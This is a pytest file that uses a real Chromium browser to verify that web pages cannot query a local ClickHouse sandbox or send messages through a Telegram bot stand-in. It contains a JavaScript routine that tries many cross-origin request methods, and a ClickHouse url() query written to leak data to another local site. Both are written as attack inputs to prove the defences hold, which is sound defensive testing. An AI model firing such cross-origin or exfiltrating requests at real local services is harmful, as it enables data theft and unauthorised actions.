"""A web page in the developer's browser can neither read nor send through the sandbox, tested in a real Chromium."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import NamedTuple
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Browser, Page
from pulse_sandbox import clickhouse_stand_in, telegram_stand_in
from telegram_chats import Telegram

from pulse.settings import SANDBOX_TELEGRAM_TOKEN

# Tries all the ways in which HTML and scripts can send to another address; returns what the page learned from answers.
TRY = """async (address) => {
  const learned = [];
  const image = new Image();
  await new Promise((done) => { image.onload = image.onerror = done; image.src = address; });
  learned.push(image.naturalWidth);
  for (const options of [{}, {method: "POST", body: "SELECT 1"}, {mode: "no-cors"},
      {mode: "no-cors", method: "POST", body: "SELECT 1", credentials: "include"},
      {headers: {Authorization: "Basic " + btoa("pulse:sandbox-only")}, method: "POST", body: "SELECT 1"}]) {
    try { learned.push(await (await fetch(address, options)).text()); } catch { learned.push(""); }
  }
  const script = document.createElement("script");
  await new Promise((done) => {
    script.onload = script.onerror = done;
    script.src = address;
    document.head.append(script);
  });
  for (const method of ["get", "post"]) {
    const frame = document.createElement("iframe");
    frame.name = "into_" + method;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action: address, method, target: frame.name, enctype: "text/plain"});
    for (const [name, value] of new URL(address).searchParams) {
      const field = document.createElement("input");
      Object.assign(field, {name, value});
      form.append(field);
    }
    document.body.append(form);
    await new Promise((done) => { frame.onload = done; form.submit(); });
  }
  return learned.join("");
}"""


class Elsewhere(NamedTuple):
    """A web site other than the sandbox: its port, and the paths that were requested."""

    port: int
    asked: list[str]


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    asked: list[str] = []

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>A page</title><body>")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield Elsewhere(site.server_address[1], asked)
        site.shutdown()


@contextmanager
def opened(browser: Browser, address: str) -> "Iterator[Page]":
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(address)
        yield page


# Chromium resolves every name below `localhost` to this machine. So such a name can stand for another site, or for a
# name that its owner has made to resolve to this machine.
SITES = ["http://site.localhost:{}/", "http://127.0.0.1:{}/"]


@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "rebound.localhost"])
def test_a_web_page_cannot_run_a_statement(
    browser: Browser, elsewhere: Elsewhere, clickhouse_server: clickhouse_stand_in.Server, site: str, host: str
) -> None:
    # `url` makes the server send a request to the other site, which could carry the content of a file.
    query = f"SELECT * FROM url('http://127.0.0.1:{elsewhere.port}/leaked', 'LineAsString')"  # noqa: S608
    address = f"http://{host}:{clickhouse_server.port}/?user=pulse&password=sandbox-only&query={quote(query)}"
    with opened(browser, site.format(elsewhere.port)) as page:
        assert page.evaluate(TRY, address) == "0"
    assert "/leaked" not in elsewhere.asked


def test_a_typed_or_followed_address_runs_no_statement(
    browser: Browser, elsewhere: Elsewhere, clickhouse_server: clickhouse_stand_in.Server
) -> None:
    with opened(browser, f"http://site.localhost:{elsewhere.port}/") as page:
        for who in ("", "pulse:sandbox-only@"):
            address = f"http://{who}127.0.0.1:{clickhouse_server.port}/?query={quote('SELECT 4444')}"
            with page.context.expect_page() as window:
                page.evaluate("address => { window.open(address) }", address)
            window.value.wait_for_load_state()
            assert "web pages" in window.value.content()
            answer = page.context.new_page().goto(address)
            assert answer is not None
            assert answer.status == 403


@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "rebound.localhost"])
def test_a_web_page_cannot_send_as_the_bot(
    browser: Browser,
    elsewhere: Elsewhere,
    telegram_server: telegram_stand_in.Server,
    chats: Telegram,
    site: str,
    host: str,
) -> None:
    before = requests.get(f"{telegram_server.url}/sandbox/messages", timeout=10).json()
    base = f"http://{host}:{telegram_server.port}"
    for path in (f"/bot{SANDBOX_TELEGRAM_TOKEN}/sendMessage?chat_id=-1001&text=x", "/sandbox/messages"):
        with opened(browser, site.format(elsewhere.port)) as page:
            assert page.evaluate(TRY, base + path) == "0"
    assert requests.get(f"{telegram_server.url}/sandbox/messages", timeout=10).json() == before


def test_the_chat_page_opens_by_a_link_and_stays_live(
    browser: Browser, elsewhere: Elsewhere, telegram_server: telegram_stand_in.Server, chats: Telegram
) -> None:
    with opened(browser, f"http://site.localhost:{elsewhere.port}/") as page:
        page.evaluate("address => { location = address }", telegram_server.chat_page)
        page.wait_for_selector("main")
        bot = f"{telegram_server.url}/bot{SANDBOX_TELEGRAM_TOKEN}"
        requests.post(f"{bot}/sendMessage", json={"chat_id": -1001, "text": "seen at once"}, timeout=10)
        page.wait_for_selector("text=seen at once", timeout=10_000)
